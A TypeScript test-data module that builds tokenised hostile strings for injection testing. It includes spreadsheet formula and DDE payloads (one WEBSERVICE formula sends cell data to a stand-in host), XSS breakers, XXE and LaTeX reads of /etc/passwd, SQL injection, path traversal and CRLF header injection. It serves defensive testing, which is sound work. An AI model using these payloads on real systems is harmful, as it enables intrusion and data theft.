/**
 * Words that harm where they are taken for something else, made so that each can be told apart in
 * whatever they come out in: every value carries a token (`tlx17q`) and, where there is room, an
 * element (`<tl-x17>`) that exists in no page, picture or file of ours.
 */

/** What a spreadsheet may take for a formula (OWASP ASVS 1.2.10, CWE-1236; DDE; full width). */
export const FORMULA_STARTS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
  ' =',
  '\t=',
  '\r=',
  '\n@',
  '=1+1|',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*',
  '=HYPERLINK("http://elsewhere.example","x")&',
  '=WEBSERVICE("http://elsewhere.example/"&A1)&',
  '-2+3+cmd|',
  '',
] as const;

/** What ends the element, attribute, comment or block that it was written into. */
export const BREAKERS = [
  `"'><tl-x# onmouseover=a()>`,
  '</title></style></textarea></script></select><tl-x#>',
  '--><tl-x#>',
  ']]><tl-x#>',
  '<svg onload=a()><tl-x#/></svg>',
  '<img src=x onerror=a()><tl-x#>',
  '" onfocus="a()" autofocus="',
  "' onfocus='a()' autofocus='",
  '`><tl-x#>',
  '<a href="javascript:a()"><tl-x#>x</a>',
  '{{constructor.constructor("a()")()}}${a()}<%= a() %>#{a()}<tl-x#>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;<tl-x#>',
  '<?xml version="1.0"?><tl-x#>',
  '<style>@import "//elsewhere.example";</style><tl-x#>',
  '<base href="//elsewhere.example/"><tl-x#>',
  '&lt;tl-x#&gt;&#60;tl-x#&#62;&amp;',
  '\\u003ctl-x#\\u003e\\x3ctl-x#\\x3e',
  '%3Ctl-x#%3E%22%27%0d%0aX-Tlx:%201',
] as const;

/** Addresses that run something. */
export const ADDRESSES = [
  'javascript:a()//tlx#q',
  'JaVaScRiPt:a()//tlx#q',
  'java\tscript:a()//tlx#q',
  'data:text/html,<script>a()</script>tlx#q',
  'vbscript:a()//tlx#q',
  '//elsewhere.example/tlx#q',
  'https://elsewhere.example/"><tl-x#>?tlx#q',
] as const;

/** Syntax of what documents and diagrams are written in: Typst, Markdown, LaTeX, Mermaid, Graphviz. */
export const SYNTAX = [
  '#panic("a")',
  '#read("/etc/passwd")',
  '#image("/etc/passwd")',
  '@nothing',
  '$x^2$ $',
  '// /* */ \\',
  '*a _b_ `c` ~d',
  '= a\n== b',
  '"; #panic() "',
  ']; #panic() [',
  '```js\na()\n```',
  '[a](javascript:a())',
  '![a](//elsewhere.example/a.png)',
  '\\input{/etc/passwd} \\write18{a}',
  'click a call b()',
  '"]; b["a"] --> c; %% d',
  'label=<b>; } digraph { a -> b',
  '{{answers}} {{nothing}} {0} %s %n',
  "'; DROP TABLE needs; --",
  '" OR 1=1 --',
  '\\b(a+)+$',
] as const;

/** Letters that break what handles them as bytes, as XML, or as so many columns. */
export const LETTERS = [
  'null',
  'undefined',
  'NaN',
  '__proto__',
  'constructor',
  'toString',
  'true',
  '[object Object]',
  'CON',
  'aux.txt',
  '..\\..\\..\\a',
  '../../../etc/passwd',
  'C:\\a:b|c?d*e<f>',
  'a\r\nBcc: b@elsewhere.example\r\n\r\n<b>',
  'a\r\nX-Tlx: 1\r\n',
  'END:VEVENT\r\nEND:VCALENDAR',
  ',;\\,\\;"a',
  'a\u0000b',
  'a\u0001\u0008\u000b\u000c\u001b\u001fb',
  'a\ud800b\udc00c',
  'a\ufffe\uffffb',
  '\u202egnp.exe\u202c \u2066a\u2069',
  'a\u200b\u200d\ufeffb\u00ad',
  'العربية ਪੰਜਾਬੀ বাংলা',
  'z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c',
  '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇬🇧 👍🏽 ❤️',
  'ﷺ ﷽',
  'ß İ ı ﬁ Ǆ',
  '𝒳 𠜎 𐍈',
  '\u2028a\u2029b\u0085c',
] as const;

/** As long as one word can be that nobody typed by hand. */
export const LONG = 'w'.repeat(5_000);

export interface Hostile {
  /** Its number, by which it is found again. */
  number: number;
  /** As much as fits a field for text. */
  whole: string;
  /** For a name of 60 characters. */
  short: string;
  /** For 20 or so. */
  tiny: string;
  address: string;
  email: string;
}

/** The hostile values of one field: another of each group by its number. */
export function hostile(number: number): Hostile {
  const start = pick(FORMULA_STARTS, number);
  const token = `tlx${number}q`;
  const breaker = pick(BREAKERS, number);
  const marked = (text: string) =>
    text.replaceAll('#q', `${number}q`).replaceAll('x#', `x${number}`);
  // Whatever the group, each value ends an attribute and opens an element.
  const short = `${start}${token}"'><tl-x${number}>`;
  return {
    number,
    whole: `${short}${marked(breaker)} ${pick(SYNTAX, number)} ${pick(LETTERS, number)}`,
    short,
    tiny: `=${token}'<`,
    address: marked(pick(ADDRESSES, number)),
    email: `=${token}'{}|<@example.org`,
  };
}

const pick = <T>(from: readonly T[], number: number): T => from[number % from.length] as T;

/** The numbers of the hostile values that are in a text. */
export function numbersIn(text: string): number[] {
  return [...text.matchAll(/tlx(\d+)q/g)].map((match) => Number(match[1]));
}
